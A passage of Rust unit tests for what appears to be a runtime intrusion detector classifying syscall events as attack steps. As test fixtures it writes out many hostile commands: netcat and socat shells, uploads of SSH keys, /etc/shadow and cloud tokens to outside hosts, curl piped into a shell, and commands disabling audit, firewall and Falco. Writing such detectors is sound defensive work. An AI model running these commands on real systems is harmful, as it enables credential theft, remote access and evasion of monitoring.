            activity(&ev(&serde_json::json!({"evt.type":"sendto","evt.rawres":48,"proc.name":"relay","proc.exepath":"/usr/bin/relay","fd.l4proto":proto,"fd.sip":dst,"fd.sport":4444,"fd.name":format!("10.1.0.5:40000->{dst}:4444")}).to_string()), &|_| false)
        };
        assert!(matches!(
            send("198.51.100.7", "udp"),
            Some(Activity::Outbound(..))
        ));
        assert_eq!(send("224.0.0.18", "udp"), None);
        assert_eq!(send("239.20.4.10", "udp"), None);
        assert_eq!(send("255.255.255.255", "udp"), None);
        assert_eq!(send("198.51.100.7", "tcp"), None);
        // A reader inside another program's command reads all the same.
        assert_eq!(
            exec(
                "bwrap --unshare-user --uid 0 --bind / / sh -c id; cat /builds/w/.signing/key.pem"
            ),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(
            command_reads_credentials("sh -c cat /etc/ssl/private/site.key | base64").as_deref(),
            Some("/etc/ssl/private/site.key")
        );
        assert_eq!(
            command_reads_credentials("cat /etc/ssl/private/site.key"),
            None
        );
        assert_eq!(
            command_reads_credentials("sh -c make && cat /srv/app/README"),
            None
        );
        assert_eq!(
            command_reads_credentials("sh -c cat $KEY_FILE | gpg --import"),
            None
        );
        for (base, key) in [
            ("key.pem", true),
            ("ca-key.pem", true),
            ("server_key.pem", true),
            ("pubkey.pem", false),
            ("public-key.pem", false),
            ("cert.pem", false),
        ] {
            assert_eq!(
                is_credential_material(&format!("/etc/app/{base}")),
                key,
                "{base}"
            );
        }
        // debugfs reading credential material off the raw device (a decisive step of its own
        // since session 24); its statistics are a kernel interface only.
        assert_eq!(
            exec("debugfs -R \"cat /etc/shadow\" /dev/nvme0n1p2"),
            Some(Step::RawDiskRead)
        );
        assert_eq!(
            exec("debugfs -R stats /dev/nvme0n1p3"),
            Some(Step::KernelInterface)
        );
    }

    /// Session 20 (the blind holdouts 23 and 24): a setuid bit on a shell or an
    /// interpreter, by name or as a copy a command line made (`install -m 4755` sets the bit
    /// too); a remote-administration port by number.
    #[test]
    fn shells_copied_and_given_setuid_and_remote_administration_ports_are_named() {
        for p in [
            "/bin/bash",
            "/tmp/python3.11",
            "/usr/local/bin/busybox",
            "perl5.36",
        ] {
            assert!(names_shell(p), "{p}");
        }
        for p in [
            "/opt/x/bin/.helper",
            "/usr/bin/bashbug",
            "/usr/lib/openssh/ssh-keysign",
        ] {
            assert!(!names_shell(p), "{p}");
        }
        for (cmd, made) in [
            ("cp /bin/bash /opt/w/bin/.h", vec!["/opt/w/bin/.h"]),
            ("cp -p /usr/bin/dash /var/tmp/", vec!["/var/tmp/dash"]),
            (
                "/usr/bin/install -m 4755 -o root /bin/sh /srv/x",
                vec!["/srv/x"],
            ),
            (
                "dd if=/usr/bin/python3 of=/dev/shm/p bs=1M",
                vec!["/dev/shm/p"],
            ),
            ("rsync -a /bin/zsh /mnt/r/zsh", vec!["/mnt/r/zsh"]),
            ("cp /opt/w/share/helper /opt/w/bin/helper", vec![]),
            ("cp -m /bin/bash", vec![]),
            ("tar -cf /tmp/b.tar /bin/bash", vec![]),
            ("dd if=/dev/zero of=/tmp/f", vec![]),
        ] {
            assert_eq!(copies_shell(cmd), made, "{cmd}");
        }
        let copied = |p: &str| p == "/opt/w/.h";
        for (what, shell) in [
            ("/opt/w/.h", true),
            ("/bin/bash", true),
            ("/opt/w/bin/helper", false),
            ("chmod -v u+s /usr/bin/find /bin/dash", true),
            ("chmod 4755 /opt/w/.h", true),
            ("chmod 2775 /srv/jobs", false),
            ("install -m 4755 /bin/bash /srv/jobs/.j", true),
            ("install -m 4755 /opt/w/helper /usr/local/bin/helper", false),
        ] {
            assert_eq!(gives_shell_setid(what, &copied), shell, "{what}");
        }
        let exec = |cmd: &str| {
            attack_step(&ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":cmd.split(' ').next().unwrap(),"proc.cmdline":cmd}).to_string()))
        };
        for cmd in [
            "install -m 4755 /bin/bash /srv/x",
            "install -m2755 a b",
            "install --mode=u+s a b",
        ] {
            assert_eq!(exec(cmd).map(|s| s.0), Some(Step::SetId), "{cmd}");
        }
        for cmd in ["install -m 0755 a b", "install -D -m 644 a b"] {
            assert_eq!(exec(cmd), None, "{cmd}");
        }
        let port = |dest: &str| {
            remote_admin_port(&ev(&serde_json::json!({"evt.type":"connect","evt.rawres":0,"fd.name":format!("10.1.1.2:40000->{dest}")}).to_string()))
        };
        assert_eq!(port("10.180.0.1:8291"), Some(8291));
        assert_eq!(port("10.0.0.5:3389"), Some(3389));
        assert_eq!(port("10.0.0.5:22"), None);
        assert_eq!(port("10.0.0.5:2375"), None);
        assert_eq!(port("10.0.0.5:554"), None);
    }

    #[test]
    fn an_applications_connection_to_a_site_server_is_no_connection_out() {
        let connect = |cmd: &str, dest: &str| {
            let name = if cmd.starts_with("java") {
                "java"
            } else {
                "python3"
            };
            activity(
                &ev(&serde_json::json!({"evt.type":"connect","evt.rawres":0,"proc.name":name,"proc.cmdline":cmd,"fd.name":format!("10.40.3.8:51422->{dest}")}).to_string()),
                &|_| false,
            )
        };
        for (cmd, dest) in [
            (
                "python3 /app/collector.py --plc 10.40.3.21",
                "10.40.9.5:5432",
            ),
            ("python3 -m worker.main", "10.40.9.6:5672"),
            ("java -Xmx2g -jar /opt/app/ledger.jar", "10.40.9.7:3306"),
        ] {
            assert_eq!(connect(cmd, dest), None, "{cmd} -> {dest}");
        }
        for (cmd, dest) in [
            // Inline code, a program on standard input, a staged script.
            (
                "python3 -c import socket;s=socket.socket()",
                "10.40.9.5:5432",
            ),
            ("python3 -", "10.40.9.5:5432"),
            ("python3 /tmp/.x/r.py", "10.40.9.5:5432"),
            // An unusual port, a server outside the site.
            ("python3 /app/collector.py", "10.40.9.5:4444"),
            ("python3 /app/collector.py", "203.0.113.9:5432"),
        ] {
            assert!(
                matches!(connect(cmd, dest), Some(Activity::Outbound(..))),
                "{cmd} -> {dest}"
            );
        }
    }

    #[test]
    fn activities() {
        let none = |_: &str| false;
        let d = activity(
            &ev(
                r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"curl","proc.cmdline":"curl -so /tmp/p http://127.0.0.1:8000/p"}"#,
            ),
            &none,
        );
        assert!(matches!(d, Some(Activity::Download(..))));
        let x = activity(
            &ev(r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"p","proc.exepath":"/tmp/p"}"#),
            &none,
        );
        assert_eq!(x, Some(Activity::ExecDropped("/tmp/p".into())));
        let failed = activity(
            &ev(r#"{"evt.type":"execve","evt.rawres":-2,"proc.name":"p","proc.exepath":"/tmp/p"}"#),
            &none,
        );
        assert_eq!(failed, None);
        let c = activity(
            &ev(
                r#"{"evt.type":"connect","evt.rawres":0,"proc.name":"bash","fd.name":"10.0.0.2:5555->93.184.216.34:443"}"#,
            ),
            &none,
        );
        assert!(matches!(c, Some(Activity::Outbound(..))));
        let l = activity(
            &ev(
                r#"{"evt.type":"connect","evt.rawres":0,"fd.name":"127.0.0.1:5555->127.0.0.1:443"}"#,
            ),
            &none,
        );
        assert_eq!(l, None);
        let r = activity(
            &ev(
                r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"fd.name":"/etc/shadow"}"#,
            ),
            &none,
        );
        assert_eq!(
            r,
            Some(Activity::CredentialRead(
                "/etc/shadow".into(),
                String::new()
            ))
        );
        let m = activity(
            &ev(r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"dpkg"}"#),
            &|n| n == "dpkg",
        );
        assert_eq!(m, Some(Activity::Maintenance("dpkg".into())));
    }

    fn exec(name: &str, cmd: &str) -> Option<Activity> {
        let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.cmdline":cmd});
        activity(&ev(&j.to_string()), &|_| false)
    }

    #[test]
    fn an_orchestrator_client_asked_for_secrets_is_a_step() {
        let asks = cmdline_asks_for_secrets;
        for cmd in [
            "kubectl get secrets -A -o yaml",
            "kubectl -n prod get secret db-creds -o jsonpath={.data.password}",
            "kubectl get secrets,configmaps -n app",
            "kubectl describe secret/registry",
            "oc get secret -o json",
            "kubectl create token default -n kube-system",
        ] {
            assert!(asks(cmd), "{cmd}");
        }
        for cmd in [
            "kubectl rollout restart deployment/opensearch-dashboards -n search",
            "kubectl get pods -n secrets",
            "kubectl get configmap app-config -o yaml",
            "kubectl create secret generic x --from-literal=a=b",
            "helm get values release",
            "/usr/bin/kubectl-plugin-x get nodes",
        ] {
            assert!(!asks(cmd), "{cmd}");
        }
        let step = |cmd: &str| {
            let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":"kubectl","proc.exepath":"/usr/local/bin/kubectl","proc.cmdline":cmd});
            attack_step(&ev(&j.to_string())).map(|(s, _)| s)
        };
        assert_eq!(
            step("kubectl get secrets -A -o yaml"),
            Some(Step::SecretsRequest)
        );
        assert_eq!(step("kubectl get nodes -o wide"), None);
    }

    /// A connection to the cloud instance metadata service is a step of its own, by
    /// address (IPv4, AWS's IPv6) or by GCP's name, and an activity although the address is
    /// link-local; another link-local or loopback address is neither.
    /// Key material named as what a copy or upload tool sends is a step
    /// (`Step::KeySent`); the tool's own identity, a tree copied whole, a download and an
    /// ordinary file are not (the blind holdout19: a CronJob's `scp` carrying the card
    /// tokenisation key to a host of the site, called a quiet job's work).
    #[test]
    fn key_material_copied_to_another_host_is_a_step() {
        let sends = |cmd: &str| {
            let words: Vec<&str> = cmd.split_whitespace().collect();
            sends_key_material(words[0], &words[1..])
        };
        for (cmd, key) in [
            (
                "scp /keys/token-master.key afc@10.60.4.250:",
                "/keys/token-master.key",
            ),
            (
                "scp -i /keys/id_ed25519 -P 2222 /etc/ssl/private/site.key u@h:/tmp/",
                "/etc/ssl/private/site.key",
            ),
            (
                "rsync -av ~/.ssh/id_rsa backup@10.0.0.9:/srv/",
                "~/.ssh/id_rsa",
            ),
            (
                "rsync /home/a/.aws/credentials rsync://198.51.100.7/x/",
                "/home/a/.aws/credentials",
            ),
            (
                "curl -T /var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.9/u",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
            (
                "curl -F f=@/root/.ssh/id_ed25519 https://paste.example/",
                "/root/.ssh/id_ed25519",
            ),
            (
                "wget --post-file=/etc/shadow http://203.0.113.9/",
                "/etc/shadow",
            ),
            // One of the system's configuration files, beside the job's own output (the
            // blind holdout21: a courier job edited to send the database's settings too).
            (
                "scp -i /keys/push_ed25519 /out/manifest-2026-11-05.csv /etc/bbis/db.conf m@10.90.7.20:/inbound/",
                "/etc/bbis/db.conf",
            ),
            (
                "curl -s -T /etc/historian/db.env http://203.0.113.61/u/wa",
                "/etc/historian/db.env",
            ),
            ("rsync -a /etc/mysql/my.cnf b@10.0.0.9:/srv/", "/etc/mysql/my.cnf"),
            // An interpreter's inline program posting a key outside (session 23, the blind
            // holdout31's backup unit).
            (
                "python3 -c import urllib.request as u;u.urlopen('http://198.51.100.19/k',open('/root/.config/borg/keys/resrec').read())",
                "/root/.config/borg/keys/resrec",
            ),
            (
                "perl -e use LWP::Simple;post('https://203.0.113.4/',open('/root/.ssh/id_ed25519'))",
                "/root/.ssh/id_ed25519",
            ),
            // A repository's password file (session 23, the blind holdout32's restic unit).
            (
                "curl -s -d @/etc/restic/password http://198.51.100.12/p",
                "/etc/restic/password",
            ),
        ] {
            assert_eq!(sends(cmd).as_deref(), Some(key), "{cmd}");
        }
        for cmd in [
            // Inline code reading a key to talk to the site's own service, or naming an
            // outside address with no key.
            "python3 -c import urllib.request as u;u.urlopen('http://10.0.4.7/k',open('/root/.config/borg/keys/resrec').read())",
            "python3 -c import urllib.request as u;print(u.urlopen('https://203.0.113.4/health').read())",
            "python3 /opt/app/upload.py https://203.0.113.4/ /srv/keys/pub.pem",
        ] {
            assert_eq!(sends(cmd), None, "{cmd}");
        }
        for cmd in [
            // The tool's own identity and configuration, not what it sends.
            "scp -i /keys/id_ed25519 -o StrictHostKeyChecking=yes /data/hotlist-20261103.bin afc@10.60.4.21:/srv/",
            "rsync -a -e \"ssh -i /root/.ssh/id_backup\" /etc/ backup@10.70.0.20:/srv/etc/",
            // A captured command line shows the remote shell's words unquoted.
            "rsync -a --delete -e ssh -i /secrets/id_ed25519 /data/uploads/ backup@10.70.0.20:/srv/",
            "rsync -a --rsh=ssh -p 2222 -i /secrets/id_ed25519 /data/ b@10.70.0.20:/srv/",
            "curl --cert /etc/pki/client.pem --key /etc/pki/private/client.key -T /data/report.csv https://10.0.0.5/u",
            // A download of a key, a copy between local paths, a public key.
            "scp u@h:/etc/ssl/private/site.key /etc/ssl/private/",
            "rsync -a /etc/ssl/private/site.key /srv/backup/",
            "scp /root/.ssh/id_rsa.pub u@h:",
            "curl -u admin:secret https://h/x",
            // A configuration tree copied whole, a glob, a file that is no configuration.
            "rsync -a /etc/nginx/ b@10.0.0.9:/srv/etc/",
            "scp /etc/nginx/conf.d/*.conf b@10.0.0.9:/srv/",
            "scp /etc/hostname b@10.0.0.9:/srv/",
            // Configuration fetched to the local /etc is a download.
            "scp u@h:/etc/app/db.conf /etc/app/db.conf",
        ] {
            assert_eq!(sends(cmd), None, "{cmd}");
        }
        let exec = |cmd: &str| {
            let name = cmd.split(' ').next().unwrap_or_default();
            ev(&serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd}).to_string())
        };
        assert_eq!(
            attack_step(&exec("scp /keys/token-master.key afc@10.60.4.250:")).map(|s| s.0),
            Some(Step::KeySent)
        );
        assert_ne!(
            attack_step(&exec("scp -i /keys/id_ed25519 /data/h.bin afc@10.60.4.21:")).map(|s| s.0),
            Some(Step::KeySent)
        );
    }

    /// An account tool's command line that puts an account into an administrators' group,
    /// in every spelling of the option; other groups, removal and listing do not.
    #[test]
    fn an_account_put_into_an_administrators_group_is_named() {
        let grants = |cmd: &str| {
            let w: Vec<&str> = cmd.split_whitespace().collect();
            grants_admin_group(w[0], &w[1..])
        };
        for (cmd, group) in [
            ("useradd -m -G wheel -s /bin/bash svc.sync2", "wheel"),
            ("useradd -m -G staff,sudo alice", "sudo"),
            ("usermod -aG docker lwei", "docker"),
            ("usermod -Gadm,wheel bob", "wheel"),
            ("usermod --groups=lxd carol", "lxd"),
            ("usermod --groups admin carol", "admin"),
            ("useradd -g 0 -M svc", "root"),
            ("gpasswd -a amartin wheel", "wheel"),
            ("gpasswd -M a,b sudo", "sudo"),
            ("adduser sysmon sudo", "sudo"),
            ("groupmems -g disk -a eve", "disk"),
        ] {
            assert_eq!(grants(cmd).as_deref(), Some(group), "{cmd}");
        }
        for cmd in [
            "useradd -m -G teachers -s /bin/bash t.okafor",
            "usermod -aG dialout gateocr",
            "gpasswd -d amartin wheel",
            "adduser --system --group sysmon",
            "useradd -m -k /root/skel -d /home/wheel wheel",
            "groupmems -g sudo -l",
            "passwd -S root",
        ] {
            assert_eq!(grants(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn the_instance_metadata_service_is_a_step_by_address_or_name() {
        for h in [
            "169.254.169.254",
            "[fd00:ec2::254]",
            "metadata.google.internal",
            "Metadata.Google.Internal.",
        ] {
            assert!(is_instance_metadata_host(h), "{h}");
        }
        for h in ["169.254.169.253", "127.0.0.1", "metadata", "fd00:ec2::253"] {
            assert!(!is_instance_metadata_host(h), "{h}");
        }
        let conn = |sip: &str, name: &str, res: i64| {
            ev(&serde_json::json!({"evt.type":"connect","evt.rawres":res,"proc.name":"turnserver","fd.sip":sip,"fd.sport":80,"fd.sip.name":name,"fd.name":format!("10.0.0.5:40000->{sip}:80")}).to_string())
        };
        for (sip, name) in [
            ("169.254.169.254", ""),
            ("fd00:ec2::254", ""),
            ("169.254.169.254", "metadata.google.internal"),
        ] {
            let e = conn(sip, name, 0);
            assert_eq!(
                attack_step(&e).map(|s| s.0),
                Some(Step::InstanceMetadata),
                "{sip}"
            );
            assert!(
                matches!(
                    activity(&e, &|_| false),
                    Some(Activity::Step(Step::InstanceMetadata, _))
                ),
                "{sip}"
            );
        }
        assert_eq!(attack_step(&conn("169.254.169.254", "", -111)), None);
        for sip in ["169.254.10.1", "127.0.0.1"] {
            assert_eq!(attack_step(&conn(sip, "", 0)), None, "{sip}");
            assert_eq!(activity(&conn(sip, "", 0), &|_| false), None, "{sip}");
        }
    }

    #[test]
    fn a_fetch_its_parent_pipes_into_a_shell_is_a_download() {
        let under = |parent: &str, cmd: &str| {
            let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":"curl",
                "proc.cmdline":cmd,"proc.pname":"sh","proc.pcmdline":parent});
            activity(&ev(&j.to_string()), &|_| false)
        };
        let dl = |a: Option<Activity>| matches!(a, Some(Activity::Download(..)));
        let fetch = "curl -fsS http://203.0.113.45/p.sh";
        for parent in [
            "sh -c curl -fsS http://203.0.113.45/p.sh | sh",
            "bash -c curl -fsS http://203.0.113.45/p.sh|bash -s",
            "sh -c curl -fsS http://203.0.113.45/p.sh | sudo -E python3 -",
            "sh -c curl -fsS http://203.0.113.45/p.sh | /usr/bin/env bash",
        ] {
            assert!(dl(under(parent, fetch)), "{parent}");
        }
        // Piped into a filter, not a shell; `||` is not a pipe; a shell piping something
        // else into a shell; the fetch to a loopback health endpoint.
        for parent in [
            "sh -c curl -fsS http://203.0.113.45/p.sh | grep -c ok",
            "sh -c curl -fsS http://203.0.113.45/p.sh || sh /opt/fallback.sh",
            "sh -c cat /etc/motd | sh",
        ] {
            assert!(!dl(under(parent, fetch)), "{parent}");
        }
        assert!(!dl(under(
            "sh -c curl -fsS http://localhost:8080/healthz | sh",
            "curl -fsS http://localhost:8080/healthz"
        )));
        assert!(pipes_into_shell(
            "sh -c wget -qO- http://x/y | perl",
            "wget"
        ));
        assert!(!pipes_into_shell(
            "sh -c wget -qO- http://x/y | perl",
            "curl"
        ));
    }

    #[test]
    fn only_fetches_that_write_a_file_are_downloads() {
        let dl = |a: Option<Activity>| matches!(a, Some(Activity::Download(..)));
        let stdout = |a: Option<Activity>| matches!(a, Some(Activity::FetchToStdout(..)));
        // Health checks and local API calls: not downloads.
        assert!(!dl(exec("curl", "curl -fsS http://localhost:8080/healthz")));
        assert!(stdout(exec(
            "curl",
            "curl -fsS http://localhost:8080/healthz"
        )));
        let contact = |a: Option<Activity>| match a {
            Some(Activity::Contact(_, _, outside)) => Some(outside),
            _ => None,
        };
        // A request to this host's own loopback reaches no other host (session 23).
        assert_eq!(
            contact(exec(
                "curl",
                "curl -s -o /dev/null -w %{http_code} http://127.0.0.1/health"
            )),
            None
        );
        assert_eq!(
            contact(exec(
                "curl",
                "curl -s -o /dev/null -w %{http_code} http://10.0.4.7/health"
            )),
            Some(false)
        );
        // Uploads to a backup server.
        for up in [
            "curl -T /var/backups/db.tar.gz https://backup.example.com/up/",
            "curl --upload-file /var/backups/db.tar.gz https://backup.example.com/",
            "curl -F file=@/var/backups/db.tar.gz https://backup.example.com/",
            "curl -d @/var/backups/meta.json https://backup.example.com/",
            "curl --data-binary @/var/backups/db.gz https://backup.example.com/",
        ] {
            assert_eq!(contact(exec("curl", up)), Some(true), "{up}");
        }
        // The same upload to the site's own backup server is contact inside the site.
        assert_eq!(
            contact(exec(
                "curl",
                "curl -T /var/backups/db.gz http://10.0.4.7:8000/up/"
            )),
            Some(false)
        );
        assert_eq!(
            contact(exec("curl", "curl -F f=@/b.gz http://localhost:8000/up/")),
            Some(false)
        );
        // Fetches that write a file.
        assert!(dl(exec("curl", "curl -sSLo /tmp/x https://evil.example/x")));
        assert!(dl(exec("curl", "curl -O https://evil.example/x")));
        assert!(dl(exec(
            "curl",
            "curl -s -o /tmp/p http://127.0.0.1:8000/p"
        )));
        assert!(dl(exec("wget", "wget https://evil.example/x")));
        assert!(stdout(exec("wget", "wget -qO- https://evil.example/x.sh")));
        assert!(dl(exec("scp", "scp user@host:/srv/x /tmp/x")));
        assert_eq!(
            contact(exec(
                "rsync",
                "rsync -a /var/backups/ backup.example.com:/srv/b/"
            )),
            Some(true)
        );
        assert_eq!(
            contact(exec("scp", "scp /var/backups/db.gz ops@10.0.4.7:/srv/b/")),
            Some(false)
        );
        // A shell reading its program from a pipe.
        assert!(matches!(
            exec("sh", "sh"),
            Some(Activity::ShellFromStdin(_))
        ));
        assert!(matches!(
            exec("bash", "bash -s -- --flag"),
            Some(Activity::ShellFromStdin(_))
        ));
        assert_eq!(exec("bash", "bash /opt/run.sh"), None);
    }

    #[test]
    fn outbound_is_weighed_for_shells_tools_and_unusual_ports() {
        let conn = |name: &str, fd: &str| {
            let j = serde_json::json!({"evt.type":"connect","evt.rawres":0,"proc.name":name,"fd.name":fd});
            activity(&ev(&j.to_string()), &|_| false)
        };
        // An ordinary client to a common port: not weighed, but contact outside the site.
        assert_eq!(
            conn("curl", "10.0.0.2:41234->203.0.113.9:443"),
            Some(Activity::Contact(
                "10.0.0.2:41234->203.0.113.9:443".into(),
                "curl".into(),
                true
            ))
        );
        assert_eq!(conn("curl", "10.0.0.2:41234->10.0.4.7:443"), None);
        assert!(conn("bash", "10.0.0.2:41234->203.0.113.9:443").is_some());
        assert!(conn("python3", "10.0.0.2:41234->203.0.113.9:443").is_some());
        assert!(conn("nc", "10.0.0.2:41234->203.0.113.9:443").is_some());
        assert!(conn("xmrig2", "10.0.0.2:41234->203.0.113.9:3333").is_some());
        assert_eq!(conn("bash", "127.0.0.1:41234->127.0.0.1:4444"), None);
    }

    #[test]
    fn inside_addresses() {
        for a in [
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "100.64.0.1",
            "127.0.0.1",
            "fd00::1",
            "169.254.169.254",
        ] {
            assert!(is_inside(&a.parse().unwrap()), "{a}");
        }
        for a in [
            "8.8.8.8",
            "100.128.0.1",
            "172.32.0.1",
            "2001:db8::1",
            "203.0.113.9",
        ] {
            assert!(!is_inside(&a.parse().unwrap()), "{a}");
        }
    }

    #[test]
    fn unattended_needs_a_system_launcher_and_no_entry() {
        // a cron job, an agent under init, a service's own child: nobody entered
        for j in [
            r#"{"proc.name":"restic","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
            r#"{"proc.name":"telegraf","proc.tty":0,"proc.pname":"systemd"}"#,
            r#"{"proc.name":"cp","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"postgres"}"#,
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","proc.aname[3]":"containerd-shim"}"#,
        ] {
            assert!(unattended(&ev(j)), "{j}");
        }
        // a tty, a login, a runtime exec (with or without tty), or no launcher at all
        for j in [
            r#"{"proc.name":"restic","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
            r#"{"proc.name":"rsync","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#,
            r#"{"proc.name":"apk","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"containerd-shim"}"#,
            r#"{"proc.name":"apk","proc.tty":0,"proc.pname":"runc"}"#,
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"bash"}"#,
            r#"{"proc.name":"rm","proc.tty":0}"#,
        ] {
            assert!(!unattended(&ev(j)), "{j}");
        }
    }

    /// `test(program, arguments)` of a test command line split at whitespace.
    fn by_words(cmd: &str, test: fn(&str, &[&str]) -> bool) -> bool {
        let mut w = cmd.split_whitespace();
        let name = w.next().unwrap_or_default();
        test(name, &w.collect::<Vec<_>>())
    }

    /// Session 24: turning a security control off, or forging a system file's times, is a
    /// step of its own; reloading, restarting or asking for a status is not.
    #[test]
    fn defenses_turned_off() {
        let evades = |cmd: &str| by_words(cmd, evades_defenses);
        for cmd in [
            "auditctl -D",
            "auditctl -e 0",
            "systemctl stop falco",
            "systemctl disable --now auditd.service",
            "systemctl mask wazuh-agent",
            "service auditd stop",
            "pkill -9 osqueryd",
            "killall falco",
            "ufw disable",
            "iptables -F",
            "iptables -P INPUT ACCEPT",
            "nft flush ruleset",
            "aa-teardown",
            "touch -r /usr/bin/ls /usr/bin/sshd",
            "touch -d 2023-01-04 /etc/cron.d/0hourly",
            "touch --reference=/etc/hosts /root/.ssh/authorized_keys",
        ] {
            assert!(evades(cmd), "{cmd}");
        }
        for cmd in [
            "auditctl -l",
            "systemctl restart falco",
            "systemctl status auditd",
            "systemctl kill -s HUP rsyslog.service",
            "systemctl stop nginx",
            "pkill -HUP rsyslogd",
            "killall -USR1 fail2ban",
            "ufw status",
            "iptables -L -n",
            "touch /etc/motd",
            "touch -d @1700000000 build/out.o",
            "setenforce 0",
        ] {
            assert!(!evades(cmd), "{cmd}");
        }
    }

    /// Session 24, from the blind holdout33 (a ttyd session's check of a port, and the same
    /// session leaving `nc -lvp 4444 -e /bin/bash`): a network tool handing a shell to its
    /// connection is a step of its own, a decisive one.
    #[test]
    fn network_tools_serving_a_shell() {
        let served = |cmd: &str| by_words(cmd, serves_shell);
        for cmd in [
            "nc -lvp 4444 -e /bin/bash",
            "nc 203.0.113.9 443 -e/bin/sh",
            "ncat --exec /usr/bin/python3 10.0.0.9 9001",
            "ncat -l 4444 --sh-exec \"bash -i\"",
            "nc -c sh 198.51.100.4 4444",
            "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
            "socat tcp:198.51.100.4:443 system:'id;sh'",
        ] {
            assert!(served(cmd), "{cmd}");
        }
        for cmd in [
            "nc -zv 10.61.0.5 1883",
            "nc -c mqtt.example.com 8883",
            "ncat -l 8080 --keep-open",
            "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
            "socat - UNIX-CONNECT:/run/haproxy.sock",
        ] {
            assert!(!served(cmd), "{cmd}");
        }
        let ev = FlatEvent::from_json_line(
            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"nc","proc.exepath":"/usr/bin/nc.traditional","proc.cmdline":"nc -lvp 4444 -e /bin/bash","proc.pname":"bash"}"#,
        )
        .unwrap();
        assert_eq!(attack_step(&ev).map(|(s, _)| s), Some(Step::ShellServed));
    }

    #[test]
    fn ssh_tunnels_and_their_destinations() {
        for (cmd, dest) in [
            (
                "ssh -D 1080 -N -p 443 -i /tmp/.id u@198.51.100.77",
                "198.51.100.77",
            ),
            (
                "ssh -fNR 9000:127.0.0.1:22 -p 443 x@203.0.113.240",
                "203.0.113.240",
            ),
            ("ssh -L5432:db:5432 deploy@10.0.4.7", "10.0.4.7"),
            (
                "ssh -o ExitOnForwardFailure=yes -w 0:0 Vpn.Example.com",
                "vpn.example.com",
            ),
        ] {
            assert_eq!(ssh_tunnel(cmd).as_deref(), Some(dest), "{cmd}");
        }
        for cmd in [
            "ssh -p 443 -o SendEnv=GIT_PROTOCOL git@ssh.github.com git-upload-pack 'x.git'",
            "ssh -i /root/.ssh/id_ed25519 -l backup 10.70.0.20 rsync --server . /srv/",
            "ssh host ls -L /tmp",
            "ssh",
        ] {
            assert_eq!(ssh_tunnel(cmd), None, "{cmd}");
        }
        assert!(matches!(
            exec("ssh", "ssh -D 1080 -N u@198.51.100.77"),
            Some(Activity::Outbound(..))
        ));
    }

    #[test]
    fn job_launchers_are_schedulers_and_ci_runners_never_init() {
        let j = |s: &str| job_launcher(&ev(s));
        assert_eq!(
            j(r#"{"proc.name":"git","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.aname[3]":"systemd"}"#).as_deref(),
            Some("gitlab-runner")
        );
        for s in [
            // cron, init (anything whose parent exited is re-parented to it), a tty, a
            // runtime exec, a service
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","proc.aname[3]":"gitlab-runner"}"#,
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"systemd","proc.aname[3]":"gitlab-runner"}"#,
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"gitlab-runner"}"#,
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"gitlab-runner"}"#,
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"nginx","proc.aname[3]":"gitlab-runner"}"#,
        ] {
            assert_eq!(j(s), None, "{s}");
        }
    }

    #[test]
    fn interactive_needs_a_person() {
        let i = |j: &str| actor(&ev(j)).interactive();
        // A person: a tty with a login or a runtime exec entry.
        assert!(i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}"#
        ));
        assert!(i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc"}"#
        ));
        // What started the runtime (host side) is not how the container was entered.
        let a = actor(&ev(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"sshd","proc.aname[4]":"httpd"}"#,
        ));
        assert_eq!((a.entry, a.service), (None, None));
        // A tty alone, sudo alone, or a runtime exec without a tty (piped): no.
        assert!(!i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash"}"#
        ));
        assert!(!i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sudo"}"#
        ));
        assert!(!i(
            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#
        ));
        // A service in the lineage, a service account, a network stdin: no.
        assert!(!i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
        ));
        assert!(!i(
            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"www-data","user.uid":33}"#
        ));
        assert!(!i(
